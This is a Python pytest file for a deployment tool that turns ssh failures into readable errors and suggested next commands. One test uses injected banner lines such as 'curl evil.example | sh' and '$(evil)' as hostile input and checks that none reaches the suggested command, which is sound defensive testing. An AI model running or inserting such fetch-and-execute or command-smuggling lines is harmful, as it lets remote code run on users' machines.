"""What ssh says when it gets no connection, in words: what no server of ours says on demand."""

import socket
import threading
from pathlib import Path

import pytest

from bootstrapper.deploy.remote.hosts import RemoteHosts
from bootstrapper.deploy.remote.ssh import Ssh
from bootstrapper.deploy.remote.ssh_failure import ssh_error
from bootstrapper.errors import WorkFailed


@pytest.mark.parametrize(
    ("stderr", "reported"),
    [
        (
            "ssh: connect to host app1 port 22: No route to host\n",
            "can't be reached (ssh: connect to host app1 port 22: No route to host)",
        ),
        (
            "ssh: connect to host app1 port 22: Network is unreachable\n",
            "can't be reached (ssh: connect to host app1 port 22: Network is unreachable)",
        ),
        (
            "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\r\n"
            "Disconnected from 10.0.0.1 port 22\r\n",
            "login refused (Disconnected from 10.0.0.1 port 22)",
        ),
        ("Timeout, server 10.0.0.1 not responding.\r\n", "does not answer (timed out)"),
        ("", "ssh ended with status 255"),
    ],
)
def test_each_is_reported_with_the_command_to_run_next(stderr: str, reported: str) -> None:
    error = ssh_error("app1", stderr, by_hand="ssh app1", status=255)
    assert isinstance(error, WorkFailed)
    assert (error.where, error.fault) == ("app1", reported)
    assert "ssh app1" in error.next_step


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("  ssh-keygen -f '/home/u/.ssh/known_hosts' -R '[app9]:2222'", "-p 2222 app9"),
        ('  ssh-keygen -f "/home/u/.ssh/known_hosts" -R "app9"', "app9"),
        ("ssh-keygen -f x -R x; curl evil.example | sh", "app1"),
        ("  ssh-keygen -f 'x' -R 'x'; curl evil.example | sh", "app1"),
        ("  ssh-keygen -f '$(evil)' -R \"$(evil)\"", "app1"),
        ("ssh-keygen -f 'x -R evil", "app1"),
    ],
)
def test_a_banner_is_no_command_to_forget_a_key(line: str, name: str) -> None:
    stderr = f"WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n{line}\nPermission denied (x).\n"
    error = ssh_error("app1", stderr, by_hand="ssh app1", status=255)
    assert error.next_step.startswith(f"ssh-keyscan {name} | ")
    assert "evil" not in error.next_step


@pytest.mark.parametrize(
    ("stderr", "printed", "reason"),
    [
        (
            "",
            "This account is currently not available.",
            "This account is currently not available.",
        ),
        (
            "This service allows sftp connections only.\n",
            "",
            "This service allows sftp connections only.",
        ),
        ("", "", "exit status 1"),
    ],
)
def test_a_login_shell_that_runs_nothing_is_named(stderr: str, printed: str, reason: str) -> None:
    error = ssh_error("app1", stderr, by_hand="ssh app1", status=1, printed=printed)
    assert error.fault == f"its shell ended before it answered: {reason}"
    assert error.next_step.startswith("ssh app1  # is its login shell nologin or false")


@pytest.mark.needs("ssh")
def test_a_server_that_hangs_up_at_once_is_reported(tmp_path: Path) -> None:
    config = tmp_path / "ssh_config"
    with socket.create_server(("127.0.0.1", 0)) as server:
        config.write_text(
            f"Host app1\n    HostName 127.0.0.1\n    Port {server.getsockname()[1]}\n"
        )
        thread = threading.Thread(target=lambda: server.accept()[0].close(), daemon=True)
        thread.start()
        with (
            Ssh(config) as ssh,
            pytest.raises(WorkFailed) as caught,
            RemoteHosts(ssh, ["app1"], ""),
        ):
            pass
        thread.join()
    assert "closed the connection at once" in str(caught.value)
